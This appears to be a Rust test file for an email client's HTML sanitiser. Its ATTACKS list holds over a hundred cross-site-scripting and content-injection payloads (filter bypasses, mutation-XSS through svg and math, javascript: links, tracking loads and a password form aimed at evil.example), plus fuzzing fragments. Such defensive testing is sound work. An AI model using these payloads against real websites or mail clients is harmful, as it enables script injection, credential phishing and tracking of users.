//! Messages that try to run, load, send or pretend something.

use proptest::prelude::*;

use super::safe::assert_harmless;
use super::{plain, shown};

/// What strangers may write. Each is tried alone, within a paragraph, within a quote, and unfinished.
const ATTACKS: &[&str] = &[
    // Scripts.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script\n>alert(1)</script\t>",
    "<script>/*</script>*/alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<noembed><img src=\"</noembed><iframe onload=alert(1)>\">",
    "<noframes><style></noframes><script>alert(1)</script>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
    "<iframe><img title=\"</iframe><img src onerror=alert(1)>\"></iframe>",
    "<object data=javascript:alert(1)><embed src=//evil.example/x.swf></object>",
    "<applet code=x.class><param name=a value=b></applet>",
    "<template><script>alert(1)</script></template>",
    "<template><template></template><img src onerror=alert(1)></template>",
    "<portal src=//evil.example></portal><fencedframe src=//evil.example></fencedframe>",
    // Handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror=\"alert(1)\"//",
    "<p onclick=alert(1) onmouseover='alert(2)' ONFOCUS=alert(3) tabindex=0 autofocus>x</p>",
    "<body onload=alert(1) onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a/href=javascript:alert(1)/onclick=alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)><select onfocus=alert(1) autofocus><option>x</select>",
    "<div style=\"animation-name:x\" onanimationstart=alert(1)>x</div>",
    "<p =\"=\" onclick=alert(1)>x",
    "<p \"onclick=alert(1) x=\">y",
    "<p `onclick=alert(1)`>x",
    "<p\u{c}onclick=alert(1)>x",
    "<p/onclick=alert(1)>x",
    // Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;vascript&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=tauri://localhost/>x</a><a href=ipc://localhost/>y</a><a href=asset://localhost/>z</a>",
    "<a href=//evil.example>x</a><a href=/etc>y</a><a href=\\\\evil.example\\x>z</a><a href=#x>w</a>",
    "<a href=\"http:evil.example\">x</a><a href=\"https:/\\evil.example\">y</a><a href=\"http://\">z</a>",
    "<a href=blob:https://evil.example/1>x</a><a href=about:blank>y</a><a href=view-source:x>z</a>",
    "<a href=\"https://evil.example/\" target=_top ping=//evil.example/p download onclick=alert(1)>x</a>",
    "<a href=\"https://evil.example/&quot; onclick=&quot;alert(1)\">x</a>",
    "<a href='https://evil.example/\"><script>alert(1)</script>'>x</a>",
    "<a href=https://a.example/ href=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=\"mailto:a@b.example?subject=x%0d%0abcc:c@d.example\">x</a>",
    "<area href=javascript:alert(1)><map name=x><area href=javascript:alert(1)></map>",
    "https://evil.example/\"onclick=alert(1)",
    "javascript:alert(1)//http://a.example",
    "<https://evil.example/<script>alert(1)</script>>",
    "https://a.example/<img src=x onerror=alert(1)>",
    // What loads.
    "<img src=https://evil.example/p.gif srcset='https://evil.example/2.gif 2x, //evil.example/3.gif 3x'>",
    "<p style=\"background:url(https://evil.example/p.gif)\">x</p>",
    "<table background=https://evil.example/b.gif><tr><td background=//evil.example/c.gif>x</table>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example><link rel=dns-prefetch href=//e>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/y)}</style>",
    "<style>#message{display:none}</style><p id=message class=x>x</p>",
    "<video poster=//evil.example/p src=//evil.example/v autoplay></video>",
    "<picture><source srcset=//evil.example/p><img src=//evil.example/q></picture>",
    "<svg><image href=//evil.example/p /><use href=//evil.example/u#x /></svg>",
    "<base href=//evil.example/><a href=x>y</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<html manifest=//evil.example/m><frameset><frame src=//evil.example></frameset>",
    "<input type=image src=//evil.example/i><body background=//evil.example/b>",
    "<audio src=//evil.example/a></audio><track src=//evil.example/t><embed src=//evil.example/e>",
    // What asks or pretends.
    "<form action=//evil.example><input name=password><button formaction=//evil.example/2>x</button></form>",
    "<isindex action=javascript:alert(1) prompt=x>",
    "<dialog open>x</dialog><keygen><datalist><option value=x></datalist>",
    "<p contenteditable>x</p><p draggable=true>y</p><p is=x-y slot=z part=w>v</p>",
    "<p id=message name=body class=\"gmail_quote\" style=\"position:fixed;inset:0;z-index:9\">x</p>",
    "<div popover id=x></div><button popovertarget=x onbeforetoggle=alert(1)>y</button>",
    "</div></body></html><script>alert(1)</script>",
    "</p></div></div></blockquote></td></table>x",
    // Other languages within HTML.
    "<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><p><script>alert(1)</script></foreignObject></svg>",
    "<svg><desc><table><style><img src onerror=alert(1)></style></table></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<table><svg><style></table><img src=x onerror=alert(1)></style></svg>",
    "<mglyph><malignmark><style></math><script>alert(1)</script>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[</math><img src onerror=alert(1)>]]>",
    // Comments and what looks like them.
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![if !mso]><script>alert(1)</script><![endif]>",
    "<!--><script>alert(1)</script>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!-- <!-- --><script>alert(1)</script> -->",
    "<?xml version=1.0?><?php echo 1 ?><script>alert(1)</script>",
    "<! foo=\"><script>alert(1)</script>\">",
    "</ foo=\"><script>alert(1)</script>\">",
    "<//><img src=x onerror=alert(1)>",
    // Signs.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<p>&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;</p>",
    "\u{feff}<script>alert(1)</script>\u{fffe}",
    "<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<p>\u{202e}gpj.exe\u{2066}x\u{2069}</p>",
    "<mark onmouseover=alert(1)>x</mark>",
    "<pre>\n\n<script>alert(1)</script></pre>",
    "<listing>\n<img src onerror=alert(1)></listing>",
    "<a href=https://a.example><table><a href=https://b.example><td></a><script>alert(1)</script>",
    "<b><p><b><p><i></b><script>alert(1)</script></p>",
    "<table><tr><script>alert(1)</script><td><img src onerror=alert(1)></table><p>x",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>",
];

#[test]
fn no_attack_leaves_anything_harmful() {
    assert!(ATTACKS.len() >= 60);
    for attack in ATTACKS {
        let half: String = attack.chars().take(attack.chars().count() / 2).collect();
        for raw in [
            (*attack).to_owned(),
            format!("<p>antes {attack} después</p>"),
            format!("<div>antes</div><blockquote type=cite>{attack}</blockquote>"),
            format!("antes\n> {attack}\n{attack}"),
            format!("<p>antes</p>{attack}{attack}"),
            format!("<p>antes</p>{half}"),
            format!("<p>antes</p>{half}{attack}"),
            format!("<table><tr><td>antes<td>{attack}</table>{attack}"),
        ] {
            let message = plain(&raw);
            assert_harmless(&raw, &message);
            assert!(!raw.contains("antes") || message.html.contains("antes"), "{raw:?}: {:?}", message.html);
        }
    }
}

#[test]
fn nothing_that_was_cleaned_changes_when_it_is_cleaned_again() {
    for attack in ATTACKS {
        let html = plain(&format!("<p>antes</p>{attack}")).html;
        assert_eq!(ammonia_again(&html), html, "{attack:?}");
    }
}

fn ammonia_again(html: &str) -> String {
    super::super::write::sanitised(html)
}

#[test]
fn remote_pictures_are_counted_by_address() {
    for (raw, expected) in [
        ("<img src=https://a.example/1><img src=\"https://a.example/1\"><img src=HTTP://a.example/2>", 2),
        ("<img src=cid:a><img src=data:image/png;base64,AA><img src=x.png><img>", 0),
        ("<table background=//a.example/1><td style=\"background:url('https://a.example/2')\">x</table>", 2),
        ("<img srcset='https://a.example/1 1x, https://a.example/2 2x'>", 2),
        ("<style>p{background:url( \"https://a.example/1\" )}</style>x", 1),
        ("<p>https://a.example/1.png</p><a href=https://a.example/2.png>x</a>", 0),
        ("https://a.example/1.png", 0),
    ] {
        let message = plain(raw);
        assert_eq!(message.blocked_pictures, expected, "{raw}");
        assert!(!message.html.contains("<img"), "{raw}");
    }
}

#[test]
fn links_lead_where_they_may_and_others_lose_their_goal() {
    let rel = r#"rel="noopener noreferrer nofollow""#;
    assert_eq!(
        shown("<a href=\"HTTPS://a.example/?a=1&amp;b=2\" target=_blank>x</a>"),
        format!("<a href=\"traza-link:HTTPS://a.example/?a=1&amp;b=2\" {rel}>x</a>")
    );
    assert_eq!(
        shown("<a href=mailto:ana@b.example>x</a>"),
        format!("<a href=\"traza-link:mailto:ana@b.example\" {rel}>x</a>")
    );
    assert_eq!(shown("<p><a href=javascript:alert(1)>x</a></p>"), "<p>x</p>");
    assert_eq!(shown("<p><a name=x>y</a></p>"), "<p>y</p>");
    assert_eq!(
        shown("a https://b.example."),
        format!("<p>a <a href=\"traza-link:https://b.example\" {rel}>https://b.example</a>.</p>")
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn whatever_is_written_comes_out_harmless(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..60)) {
        let raw = pieces.concat();
        let message = plain(&raw);
        assert_harmless(&raw, &message);
        prop_assert_eq!(ammonia_again(&message.html), message.html);
    }

    #[test]
    fn any_text_at_all_comes_out_harmless(raw in "\\PC{0,80}", mixed in "[<>/!\"'= a-fs&;#x\\-\\[\\]]{0,120}") {
        for raw in [&raw, &mixed] {
            assert_harmless(raw, &plain(raw));
        }
    }
}

const PIECES: &[&str] = &[
    "<",
    ">",
    "</",
    "/>",
    "\"",
    "'",
    "=",
    " ",
    "\n",
    "&lt;",
    "&#x3c;",
    "&gt;",
    "&quot;",
    "--",
    "<!--",
    "-->",
    "--!>",
    "<![CDATA[",
    "]]>",
    "<?",
    "script",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "<mglyph>",
    "<annotation-xml encoding=text/html>",
    "<foreignObject>",
    "<template>",
    "</template>",
    "<noscript>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<select>",
    "<option>",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    "<iframe srcdoc='",
    "<img src=x onerror=",
    "<a href=",
    "javascript:alert(1)",
    "https://a.example/x",
    "<p",
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<i>",
    "<a>",
    "</a>",
    "<form>",
    "</form>",
    "<div style=x:url(//a.example)>",
    "</div>",
    "<blockquote>",
    "</blockquote>",
    "<pre>",
    "</pre>",
    "<br>",
    "<hr>",
    "<li>",
    "<ul>",
    "x",
    "ñ",
    "\0",
    "\u{202e}",
    "\u{feff}",
    " onclick=alert(1) ",
    "id=message",
    "`",
    "\\",
    "El 3 de mayo a las 1:02, a@b.c escribió:",
    "De: a\nEnviado: b\nPara: c\n",
    "-----Mensaje original-----",
    "\n> ",
    "http://",
    "mark",
    "<mark>",
];
